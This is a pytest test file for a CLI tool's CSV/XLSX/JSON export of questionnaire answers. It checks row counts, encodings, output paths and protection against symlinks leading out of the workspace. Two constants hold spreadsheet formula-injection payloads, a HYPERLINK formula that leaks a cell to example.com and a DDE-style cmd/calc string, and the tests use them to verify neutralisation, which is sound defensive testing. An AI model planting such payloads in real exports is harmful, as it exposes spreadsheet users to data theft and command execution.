"""`selfeval export`: the worked example out to CSV, XLSX and JSON, read back as an analyst would."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pexpect
import pytest
import spawnkit
import yaml
from typer.testing import CliRunner

from selfeval.cli import app
from selfeval.files import yamlio

DEF_SE = Path("responses/falende-staten/DEF/self-evaluation.yaml")
HYPERLINK = '=HYPERLINK("http://example.com/x?leak="&A1,"Klik hier")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TRICKY = {"NO", "1.10", "0755", "2006-05-16", "Financiën", HYPERLINK, AT_SUM}


def _answers_in(path: Path) -> int:
    """Answers in a response file, counted from its YAML alone (repeat entries included)."""

    def count(answers: dict[str, Any]) -> int:
        n = 0
        for key, value in answers.items():
            if key in ("key", "same_as"):  # entry keys, not answers
                continue
            if isinstance(value, list) and value and all(isinstance(e, dict) for e in value):
                n += sum(count(entry) for entry in value)
            elif value not in (None, "", []):
                n += 1
        return n

    data = yaml.safe_load(path.read_text("utf-8"))
    return count(data.get("answers") or {})


def _submitted_answers(ws: Path) -> int:
    files = sorted((ws / "responses").glob("*/*/*.yaml"))
    return sum(
        _answers_in(f)
        for f in files
        if yaml.safe_load(f.read_text("utf-8")).get("status") == "submitted"
    )


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def _sheet(path: Path, name: str) -> list[dict[str, Any]]:
    book = openpyxl.load_workbook(path, read_only=True)
    rows = list(book[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def _tricky(ws: Path) -> None:
    """DEF's self-evaluation answers with the strings spreadsheets like to mangle or run."""
    path = ws / DEF_SE
    data = yamlio.load(path)
    answers = data["answers"]
    answers["completed_on"] = "2006-05-16"
    documents = answers["documents"]
    documents[0]["title"] = "NO"
    documents[1]["title"] = "1.10"
    documents[2]["title"] = "0755"
    documents[0]["note"] = HYPERLINK
    documents[1]["note"] = AT_SUM
    documents[2]["note"] = "Financiën"
    yamlio.write(path, data)


def _export(runner: CliRunner, ws: Path, *args: str) -> Any:
    result = runner.invoke(app, ["export", "-w", str(ws), *args])
    assert result.exit_code == 0, result.output
    return result


def _draft_ids(runner: CliRunner, ws: Path) -> list[str]:
    result = runner.invoke(app, ["aggregate", "--draft", "-w", str(ws)])
    assert result.exit_code == 0, result.output
    draft = yaml.safe_load((ws / "reports" / "draft.yaml").read_text("utf-8"))
    return [f["id"] for f in draft["findings"]]


def test_csv_export_of_the_worked_example(runner: CliRunner, example_ws: Path) -> None:
    result = _export(runner, example_ws)
    folder = example_ws / "reports" / "export"
    wrote = [line for line in result.stdout.splitlines() if line.startswith("Wrote ")]
    assert [Path(line.removeprefix("Wrote ")).name for line in wrote] == [
        "answers.csv",
        "findings.csv",
        "participants.csv",
    ]
    assert sorted(p.name for p in folder.iterdir()) == [
        "answers.csv",
        "findings.csv",
        "participants.csv",
    ]
    answers = _csv(folder / "answers.csv")
    assert len(answers) == _submitted_answers(example_ws) == 320
    assert "320 answers from 9 responses, 76 findings, 8 participants." in result.stdout
    findings = _csv(folder / "findings.csv")
    assert [f["id"] for f in findings] == _draft_ids(runner, example_ws)
    participants = _csv(folder / "participants.csv")
    assert [p["code"] for p in participants] == [
        "BZ",
        "DEF",
        "NCTb",
        "BZK",
        "EZ",
        "AZ",
        "FIN",
        "JUS",
    ]
    fin = participants[6]
    assert (fin["name"], fin["full_name"]) == ("Financiën", "Ministerie van Financiën")
    assert fin["submitted"] == "peer-review-2@1.2.0"
    raw = (folder / "answers.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads Financiën
    assert raw.split(b"\r\n")[0].startswith(b'\xef\xbb\xbf"category","participant"')  # RFC 4180


def test_answer_rows_say_who_what_where_and_in_words(runner: CliRunner, example_ws: Path) -> None:
    _export(runner, example_ws)
    answers = _csv(example_ws / "reports" / "export" / "answers.csv")
    title = next(a for a in answers if a["path"] == "bottlenecks[2].title")
    assert title["participant"] == "BZ"
    assert title["participant_name"].startswith("Ministerie van Buitenlandse Zaken")
    pinned = yamlio.load(example_ws / "selfeval.yaml")["questionnaires"]["self-evaluation"]
    assert (title["questionnaire"], title["version"], title["status"]) == (
        "self-evaluation",
        pinned,
        "submitted",
    )
    assert (title["item"], title["item_label"], title["active"]) == (
        "bottlenecks.title",
        "Titel (kort)",
        "true",
    )
    phases = next(a for a in answers if a["participant"] == "DEF" and a["item"] == "phases")
    assert phases["value"] == "growing-tensions; decay; failure; recovery"
    assert phases["value_label"] == "Groeiende tegenstellingen; Verval; Falen; Herstel"
    gives = next(a for a in answers if a["participant"] == "DEF" and a["item"] == "gives_input_to")
    assert (gives["value"], gives["value_label"]) == ("BZ; AZ", "BZ; AZ")


def test_findings_carry_merges_and_peer_review_reactions(
    runner: CliRunner, example_ws: Path
) -> None:
    _export(runner, example_ws, "--format", "json")
    data = json.loads((example_ws / "reports" / "export" / "export.json").read_text("utf-8"))
    finding = next(f for f in data["findings"] if f["id"] == "BZ.bottlenecks.relaties-ez-financien")
    assert finding["kind"] == "bottleneck"
    assert finding["raised_by"] == ["BZ", "DEF"]
    assert finding["raised_by_names"] == ["BZ", "Defensie"]
    assert finding["merged"] == ["DEF.bottlenecks.relatie-financien-wereldbank"]
    assert finding["answers"] == []
    opportunity = next(
        f for f in data["findings"] if f["id"] == "DEF.opportunities.inlichtingenfunctie"
    )
    assert opportunity["answers"] == [
        "DEF.bottlenecks.eenzijdige-risicoanalyses",
        "DEF.needs.capaciteit-inlichtingenfunctie",
        "AZ.peer-review-2.needs.inlichtingenfunctie",
    ]
    reactions = {r["participant"]: r for r in finding["reactions"]}
    fin = reactions["FIN"]
    assert (fin["name"], fin["verdict"]) == ("Financiën", "partly-agree")
    assert fin["comment"].startswith("De relatie met de Wereldbank wordt nu al benut")
    # Every reaction in the responses is in the export, once.
    given = sum(
        len(yaml.safe_load(p.read_text("utf-8")).get("reactions") or [])
        for p in (example_ws / "responses").glob("*/*/*.yaml")
    )
    assert sum(len(f["reactions"]) for f in data["findings"]) == given == 7
    assert sum(f["partly_agree"] + f["agree"] + f["disagree"] + f["no_opinion"]
               for f in data["findings"]) == given  # fmt: skip


def test_an_opportunity_names_the_findings_it_answers(runner: CliRunner, example_ws: Path) -> None:
    _export(runner, example_ws)
    findings = {f["id"]: f for f in _csv(example_ws / "reports" / "export" / "findings.csv")}
    jus = findings["JUS.peer-review-2.opportunities.beleid-prioriteitslanden"]
    assert jus["answers"] == (
        "BZ.bottlenecks.capaciteit-politie-justitie; JUS.peer-review-2.needs.beleid-prioriteitslanden"
    )
    # The same links as the report's draft, named by the ids the findings table gives them.
    runner.invoke(app, ["aggregate", "--draft", "-w", str(example_ws)])
    draft = yaml.safe_load((example_ws / "reports" / "draft.yaml").read_text("utf-8"))
    links = {f["id"]: f.get("answers") or [] for f in draft["findings"]}
    assert {fid: f["answers"] for fid, f in findings.items()} == {
        fid: "; ".join(ids) for fid, ids in links.items()
    }
    answered = [a for f in findings.values() if f["answers"] for a in f["answers"].split("; ")]
    # 8 links from the peer reviews, 12 from BZ's and Defensie's self-evaluations (1.2.0).
    assert len(answered) == 20 and set(answered) <= findings.keys()
    assert all(findings[a]["kind"] in ("bottleneck", "blind-spot", "need") for a in answered)
    assert {f["kind"] for f in findings.values() if f["answers"]} == {"opportunity"}


def test_json_export_has_the_same_tables_typed(runner: CliRunner, example_ws: Path) -> None:
    _export(runner, example_ws, "-o", str(example_ws / "out.json"))
    data = json.loads((example_ws / "out.json").read_text("utf-8"))
    assert (data["format"], data["incident_category"]) == ("selfeval-export", "falende-staten")
    assert len(data["answers"]) == _submitted_answers(example_ws)
    assert len(data["findings"]) == 76 and len(data["participants"]) == 8
    phases = next(a for a in data["answers"] if a["item"] == "phases")
    assert phases["value"] == ["growing-tensions", "decay", "failure", "recovery"]
    assert phases["active"] is True
    year = next(a for a in data["answers"] if a["item"] == "documents.year")
    assert isinstance(year["value"], int)


def test_xlsx_export_one_sheet_per_table_header_frozen_filtered(
    runner: CliRunner, example_ws: Path
) -> None:
    result = _export(runner, example_ws, "-o", str(example_ws / "export.xlsx"))
    assert "Wrote " in result.stdout
    path = example_ws / "export.xlsx"
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["answers", "findings", "participants"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
        assert sheet["A1"].font.b
        widths = [d.width for d in sheet.column_dimensions.values()]
        assert widths and all(4 <= w <= 61 for w in widths)
    assert sheet_rows(book["answers"]) == _submitted_answers(example_ws)
    assert sheet_rows(book["findings"]) == 76


def sheet_rows(sheet: Any) -> int:
    return sheet.max_row - 1


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_tricky_strings_come_back_as_typed(runner: CliRunner, example_ws: Path, fmt: str) -> None:
    _tricky(example_ws)
    _export(runner, example_ws, "--format", fmt)
    folder = example_ws / "reports" / "export"
    if fmt == "csv":
        rows = _csv(folder / "answers.csv")
        raw = (folder / "answers.csv").read_text("utf-8-sig")
        assert '"1.10"' in raw and '"0755"' in raw and '"2006-05-16"' in raw
    elif fmt == "xlsx":
        rows = _sheet(folder / "export.xlsx", "answers")
        book = openpyxl.load_workbook(folder / "export.xlsx")
        cells = [c for row in book["answers"].iter_rows(min_row=2) for c in row
                 if c.value in TRICKY]  # fmt: skip
        assert {c.value for c in cells} == TRICKY
        assert {c.data_type for c in cells} == {"s"}  # text, never a number, date or formula
    else:
        rows = json.loads((folder / "export.json").read_text("utf-8"))["answers"]
    values = {r["path"]: r["value"] for r in rows if r["participant"] == "DEF"}
    assert values["completed_on"] == "2006-05-16"
    assert values["documents[1].title"] == "NO"
    assert values["documents[2].title"] == "1.10"
    assert values["documents[3].title"] == "0755"
    assert values["documents[3].note"] == "Financiën"


def test_hostile_answers_are_not_run_as_formulas(runner: CliRunner, example_ws: Path) -> None:
    _tricky(example_ws)
    _export(runner, example_ws)
    _export(runner, example_ws, "--format", "xlsx")
    _export(runner, example_ws, "--format", "json")
    folder = example_ws / "reports" / "export"
    # CSV: OWASP's neutralisation, a leading single quote; the field is quoted.
    rows = {
        r["path"]: r["value"] for r in _csv(folder / "answers.csv") if r["participant"] == "DEF"
    }
    assert rows["documents[1].note"] == "'" + HYPERLINK
    assert rows["documents[2].note"] == "'" + AT_SUM
    assert not any(
        v.startswith(("=", "+", "-", "@", "\t", "\r"))
        for r in _csv(folder / "answers.csv") + _csv(folder / "findings.csv")
        for v in r.values()
    )
    # XLSX: a string cell (not a formula), the text exactly as answered, quote-prefixed.
    book = openpyxl.load_workbook(folder / "export.xlsx")
    hostile = [c for row in book["answers"].iter_rows(min_row=2) for c in row
               if c.value in (HYPERLINK, AT_SUM)]  # fmt: skip
    assert len(hostile) == 2
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    findings = [c for row in book["findings"].iter_rows(min_row=2) for c in row
                if c.value == HYPERLINK]  # fmt: skip
    assert findings and findings[0].data_type == "s"  # the document's note is its text
    # JSON: data, as answered.
    data = json.loads((folder / "export.json").read_text("utf-8"))
    assert any(a["value"] == HYPERLINK for a in data["answers"])


def test_an_answer_under_a_false_when_is_exported_as_inactive(
    runner: CliRunner, example_ws: Path
) -> None:
    path = example_ws / DEF_SE
    data = yamlio.load(path)
    data["answers"]["has_bottlenecks"] = False  # bottlenecks are asked only when true
    yamlio.write(path, data)
    _export(runner, example_ws)
    rows = _csv(example_ws / "reports" / "export" / "answers.csv")
    mine = [
        r for r in rows if r["participant"] == "DEF" and r["questionnaire"] == "self-evaluation"
    ]
    kept = [r for r in mine if r["item"].startswith("bottlenecks")]
    assert kept and {r["active"] for r in kept} == {"false"}
    assert kept[0]["value"] == data["answers"]["bottlenecks"][0]["title"]
    assert {r["active"] for r in rows if r not in kept} == {"true"}


def test_drafts_are_left_out_unless_asked_for(runner: CliRunner, example_ws: Path) -> None:
    path = example_ws / "responses/falende-staten/JUS/peer-review-2.yaml"
    data = yamlio.load(path)
    data["status"] = "draft"
    data.pop("submitted_at", None)
    yamlio.write(path, data)
    result = _export(runner, example_ws)
    assert "still a draft" in result.stderr and "--include-drafts" in result.stderr
    folder = example_ws / "reports" / "export"
    assert not [r for r in _csv(folder / "answers.csv") if r["participant"] == "JUS"]
    jus = next(p for p in _csv(folder / "participants.csv") if p["code"] == "JUS")
    assert (jus["submitted"], jus["drafts"], jus["missing"]) == (
        "",
        "peer-review-2@1.2.0",
        "peer-review-2",
    )
    _export(runner, example_ws, "--include-drafts")
    jus_rows = [r for r in _csv(folder / "answers.csv") if r["participant"] == "JUS"]
    assert len(jus_rows) == _answers_in(path) > 0
    assert {r["status"] for r in jus_rows} == {"draft"}


def test_one_table_to_one_file(runner: CliRunner, example_ws: Path) -> None:
    target = example_ws / "p.csv"
    result = _export(runner, example_ws, "--table", "participants", "-o", str(target))
    assert "8 participants." in result.stdout and "answers" not in result.stdout
    assert [r["code"] for r in _csv(target)][:2] == ["BZ", "DEF"]
    assert not (example_ws / "reports" / "export").exists()


def test_an_invalid_response_stops_the_export_with_its_place(
    runner: CliRunner, example_ws: Path
) -> None:
    path = example_ws / DEF_SE
    path.write_text(
        path.read_text("utf-8").replace("involvement: strong", "involvement: enormous"), "utf-8"
    )
    result = runner.invoke(app, ["export", "-w", str(example_ws)])
    assert result.exit_code == 1
    assert "DEF/self-evaluation.yaml:" in result.stderr and "enormous" in result.stderr
    assert "Traceback" not in result.output
    folder = example_ws / "reports" / "export"
    assert not folder.exists() or not any(folder.iterdir())  # nothing half-written, no temp file


def test_usage_errors(runner: CliRunner, example_ws: Path) -> None:
    result = runner.invoke(app, ["export", "-w", str(example_ws), "--category", "terrorisme"])
    assert result.exit_code == 1  # as aggregate and status (tests/test_categories.py)
    assert "no incident category 'terrorisme'" in result.stderr
    assert "falende-staten" in result.stderr
    result = runner.invoke(app, ["export", "-w", str(example_ws), "-f", "json", "-o", "x.xlsx"])
    assert result.exit_code == 2 and "does not match" in result.stderr
    ok = runner.invoke(app, ["export", "-w", str(example_ws), "--category", "falende-staten"])
    assert ok.exit_code == 0, ok.output


def test_no_progress_bar_without_a_terminal(runner: CliRunner, example_ws: Path) -> None:
    result = _export(runner, example_ws)
    assert result.stderr == ""
    assert "Reading" not in result.stdout and "\x1b[" not in result.stdout


def test_a_table_longer_than_an_excel_sheet_continues_on_the_next(
    example_ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from selfeval.export import writers
    from selfeval.export.run import export

    monkeypatch.setattr(writers, "EXCEL_MAX_ROWS", 101)  # 100 rows and a header per sheet
    result = export(workspace=example_ws, fmt="xlsx")
    book = openpyxl.load_workbook(result.written[0], read_only=True)
    assert book.sheetnames == [
        "answers", "answers (2)", "answers (3)", "answers (4)", "findings", "participants",
    ]  # fmt: skip
    sizes = [len(list(book[name].iter_rows())) - 1 for name in book.sheetnames[:4]]
    assert sizes == [100, 100, 100, 20]
    assert result.counts["answers"] == 320


@pytest.mark.skipif(sys.platform == "win32", reason="needs a POSIX pseudo-terminal")
def test_a_progress_bar_on_a_terminal(example_ws: Path) -> None:
    exe = shutil.which("selfeval")
    assert exe, "selfeval is not on PATH"
    env = {**os.environ, "TERM": "xterm", "LANG": "C.UTF-8", "LC_ALL": "C.UTF-8"}
    child = spawnkit.spawn(exe, ["export"], cwd=str(example_ws), env=env, encoding="utf-8",
                          dimensions=(24, 100), timeout=60)  # fmt: skip
    child.expect(r"Reading responses.*9/9")
    child.expect("320 answers from 9 responses")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0


def test_dash_as_output_is_refused_not_a_folder_named_dash(
    runner: CliRunner, example_ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Seen in a new-user trial: `export -o -` wrote `-/answers.csv` and exit 0."""
    monkeypatch.chdir(example_ws)
    result = runner.invoke(app, ["export", "--format", "csv", "-o", "-"])
    assert result.exit_code == 2, result.output
    assert "standard output" in result.output
    assert not (example_ws / "-").exists()


# -- where the files go (new-user trial, issue 11 leftover) -----------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_an_output_deep_in_missing_folders_is_refused(
    runner: CliRunner, example_ws: Path, tmp_path: Path, fmt: str
) -> None:
    """Seen in a new-user trial: `export -o /nonexist/dir/x.xlsx` made /nonexist/dir."""
    target = tmp_path / "nonexist" / "dir" / ("out" if fmt == "csv" else f"x.{fmt}")
    result = runner.invoke(app, ["export", "-w", str(example_ws), "-f", fmt, "-o", str(target)])
    assert result.exit_code == 1, result.output
    assert f"the folder {tmp_path / 'nonexist'} does not exist" in result.stderr
    assert "mkdir -p" in result.stderr and "Traceback" not in result.output
    assert not (tmp_path / "nonexist").exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_the_last_folder_level_of_an_output_is_made(
    runner: CliRunner, example_ws: Path, tmp_path: Path, fmt: str
) -> None:
    """`-o new/x.xlsx` makes `new/`, and a CSV export `-o new` its folder `new/`."""
    target = tmp_path / "new" if fmt == "csv" else tmp_path / "new" / f"x.{fmt}"
    _export(runner, example_ws, "-f", fmt, "-o", str(target))
    assert (target / "answers.csv" if fmt == "csv" else target).is_file()


def test_aggregate_refuses_an_output_deep_in_missing_folders_too(
    runner: CliRunner, example_ws: Path, tmp_path: Path
) -> None:
    target = tmp_path / "nonexist" / "dir" / "report.md"
    result = runner.invoke(app, ["aggregate", "-w", str(example_ws), "-o", str(target)])
    assert result.exit_code == 1, result.output
    assert f"the folder {tmp_path / 'nonexist'} does not exist" in result.stderr
    assert not (tmp_path / "nonexist").exists()


def test_export_and_aggregate_show_paths_the_same_way(
    runner: CliRunner, example_ws: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Seen in a new-user trial: export printed relative paths where aggregate printed absolute.

    Now both: relative to the current folder when the file is inside it, else absolute.
    """
    monkeypatch.chdir(example_ws)
    aggregated = runner.invoke(app, ["aggregate"])
    exported = runner.invoke(app, ["export", "-f", "xlsx"])
    assert "Wrote reports/integrated-report.md\n" in aggregated.stdout
    assert "Wrote reports/export/export.xlsx\n" in exported.stdout
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    aggregated = runner.invoke(app, ["aggregate", "-o", str(outside / "r.md")])
    exported = runner.invoke(app, ["export", "-o", str(outside / "x.json")])
    assert f"Wrote {outside / 'r.md'}\n" in aggregated.stdout
    assert f"Wrote {outside / 'x.json'}\n" in exported.stdout


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
@pytest.mark.parametrize("link", ["reports", "reports/export", "file"])
def test_default_output_does_not_follow_a_link_out_of_the_workspace(
    runner: CliRunner, example_ws: Path, tmp_path: Path, fmt: str, link: str
) -> None:
    """A workspace is untrusted input (issue 11): a link in it must not redirect the export."""
    outside = tmp_path / "outside"
    outside.mkdir()
    reports = example_ws / "reports"
    if link == "file":
        name = "answers.csv" if fmt == "csv" else f"export.{fmt}"
        (reports / "export").mkdir(parents=True)
        (outside / name).write_text("precious", "utf-8")
        (reports / "export" / name).symlink_to(outside / name)
    else:
        if link == "reports/export":
            reports.mkdir(exist_ok=True)
        (example_ws / link).symlink_to(outside, target_is_directory=True)
    result = runner.invoke(app, ["export", "-w", str(example_ws), "-f", fmt])
    assert result.exit_code == 1, result.output
    assert "outside the workspace" in result.stderr and "Traceback" not in result.output
    left = sorted(p.name for p in outside.rglob("*"))
    assert left == (["answers.csv" if fmt == "csv" else f"export.{fmt}"] if link == "file" else [])
    if link == "file":
        assert next(outside.iterdir()).read_text("utf-8") == "precious"


# -- the XLSX as a spreadsheet reads it (XlsxWriter) --------------------------------------------------


def _calc() -> str | None:
    """soffice, when LibreOffice's spreadsheet (Calc) is installed with it."""
    soffice = shutil.which("soffice")
    if soffice is None:
        return None
    program = Path(os.path.realpath(soffice)).parent
    return soffice if any(program.glob("libsclo.*")) else None


@pytest.mark.skipif(_calc() is None, reason="LibreOffice Calc is not installed")
def test_libreoffice_calc_reads_the_workbook_as_written(
    runner: CliRunner, example_ws: Path, tmp_path: Path
) -> None:
    """A real spreadsheet opens the XLSX: every sheet, every row, text stays text, no formula run."""
    _tricky(example_ws)
    _export(runner, example_ws, "-o", str(tmp_path / "x.xlsx"))
    _export(runner, example_ws, "-o", str(tmp_path / "csv"))
    filter_ = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run(
        [str(_calc()), "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
         "--convert-to", filter_, "--outdir", str(tmp_path / "lo-out"), str(tmp_path / "x.xlsx")],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    for table in ("answers", "findings", "participants"):
        calc = _csv(tmp_path / "lo-out" / f"x-{table}.csv")
        ours = _csv(tmp_path / "csv" / f"{table}.csv")
        assert len(calc) == len(ours) > 0
        assert list(calc[0]) == list(ours[0])
    calc = {r["path"]: r["value"] for r in _csv(tmp_path / "lo-out" / "x-answers.csv")
            if r["participant"] == "DEF"}  # fmt: skip
    assert calc["completed_on"] == "2006-05-16"
    assert (calc["documents[1].title"], calc["documents[2].title"]) == ("NO", "1.10")
    assert calc["documents[3].title"] == "0755"
    assert calc["documents[3].note"] == "Financiën"
    assert calc["documents[1].note"] == HYPERLINK  # the text, not a formula's result
    assert calc["documents[2].note"] == AT_SUM


def test_the_workbook_is_the_same_bytes_for_the_same_responses(
    runner: CliRunner, example_ws: Path, tmp_path: Path
) -> None:
    _export(runner, example_ws, "-o", str(tmp_path / "a.xlsx"))
    _export(runner, example_ws, "-o", str(tmp_path / "b.xlsx"))
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()


def test_export_reads_through_aggregates_cache(
    example_ws: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A second export (or an export after aggregate) parses no unchanged response again."""
    from selfeval.export.run import export
    from selfeval.report import aggregate as step

    first = export(workspace=example_ws, fmt="json", output=example_ws / "a.json")

    def no_parsing(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("a response was parsed again")

    monkeypatch.setattr(step, "read_one", no_parsing)
    second = export(workspace=example_ws, fmt="json", output=example_ws / "b.json")
    assert (example_ws / "a.json").read_bytes() == (example_ws / "b.json").read_bytes()
    assert first.counts == second.counts == {"answers": 320, "findings": 76, "participants": 8}
    with pytest.raises(AssertionError, match="parsed again"):
        export(workspace=example_ws, fmt="json", output=example_ws / "c.json", cache=False)


def test_a_misplaced_copy_is_named_and_not_exported_as_aggregate_says(
    runner: CliRunner, example_ws: Path
) -> None:
    copy = example_ws / "responses/falende-staten/DEF (copy)/self-evaluation.yaml"
    copy.parent.mkdir()
    shutil.copy(example_ws / DEF_SE, copy)
    exported = runner.invoke(app, ["export", "-w", str(example_ws)])
    aggregated = runner.invoke(app, ["aggregate", "-w", str(example_ws)])
    warning = "DEF (copy)/self-evaluation.yaml: not counted"
    assert warning in exported.stderr and warning in aggregated.stderr
    assert "320 answers from 9 responses" in exported.stdout


@pytest.mark.parametrize("merges_file", [True, False], ids=["merges.yaml", "no-merges.yaml"])
def test_export_refuses_when_no_response_counts_as_aggregate_does(
    runner: CliRunner, example_ws: Path, merges_file: bool
) -> None:
    """incident_category.id changed after the responses were in: export wrote an empty export
    (0 answers from 0 responses, exit 0), or refused for the merges, naming the wrong cause;
    now it gives aggregate's error (nothing_counts_error) and writes nothing."""
    if not merges_file:
        (example_ws / "texts" / "merges.yaml").unlink()
    earlier = example_ws / "reports" / "export" / "answers.csv"
    earlier.parent.mkdir(parents=True)
    earlier.write_text("code,item\nBZ,role\n", "utf-8")  # an export of an earlier run
    exercise = example_ws / "selfeval.yaml"
    text = exercise.read_text("utf-8")
    assert "  id: falende-staten\n" in text
    exercise.write_text(text.replace("  id: falende-staten\n", "  id: falende-landen\n"), "utf-8")
    out = example_ws / "out.json"
    for args in ([], ["-f", "json", "-o", str(out)], ["-f", "xlsx", "--no-cache"]):
        result = runner.invoke(app, ["export", "-w", str(example_ws), *args])
        said = " ".join(result.output.split())
        assert result.exit_code == 1, result.output
        assert "Error: no response counts: the 9 response files under responses/ are in " in said
        assert "change it back to 'falende-staten'" in said
        assert "Wrote" not in said and "Traceback" not in said and "a merge names" not in said
    assert not out.exists() and not (example_ws / "reports" / "export.xlsx").exists()
    assert sorted(earlier.parent.iterdir()) == [earlier]
    assert earlier.read_text("utf-8") == "code,item\nBZ,role\n"


def test_a_refused_export_creates_no_folder(runner: CliRunner, example_ws: Path) -> None:
    # Trial 10: a bad texts/merges.yaml refused the export (exit 1), but left an empty
    # reports/export/ behind.
    (example_ws / "texts" / "merges.yaml").write_text("merges: 5\n", "utf-8")

    def files() -> list[Path]:  # .selfeval/ holds the read cache, kept as aggregate keeps it
        return sorted(p for p in example_ws.rglob("*") if ".selfeval" not in p.parts)

    before = files()
    for args in ((), ("--format", "xlsx"), ("--format", "json")):
        result = runner.invoke(app, ["export", "-w", str(example_ws), *args])
        assert result.exit_code == 1, result.output
        assert "merges.yaml:1:1: 'merges' must be a list" in result.stderr
        assert files() == before, args


def test_export_counts_the_findings_aggregate_counts(runner: CliRunner, example_ws: Path) -> None:
    # Trial 10: aggregate said "12 findings", export "14 findings": two rows held only
    # reactions to findings no longer in the report.
    fin = example_ws / "responses" / "falende-staten" / "FIN" / "peer-review-2.yaml"
    data = yamlio.load(fin)
    data["reactions"][0]["finding"] = "BZ.bottlenecks.bestaat-niet"
    yamlio.write(fin, data)
    result = _export(runner, example_ws)
    path = example_ws / "reports" / "export" / "findings.csv"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    findings = [r for r in rows if r["kind"]]  # a gone finding's row has no kind
    assert len(rows) == len(findings) + 1
    # aggregate's "N findings from …" counts the findings in the report: those with a kind.
    assert (
        f", {len(findings)} findings, 1 reaction to findings no longer in the report, "
        in result.stdout
    ), result.stdout
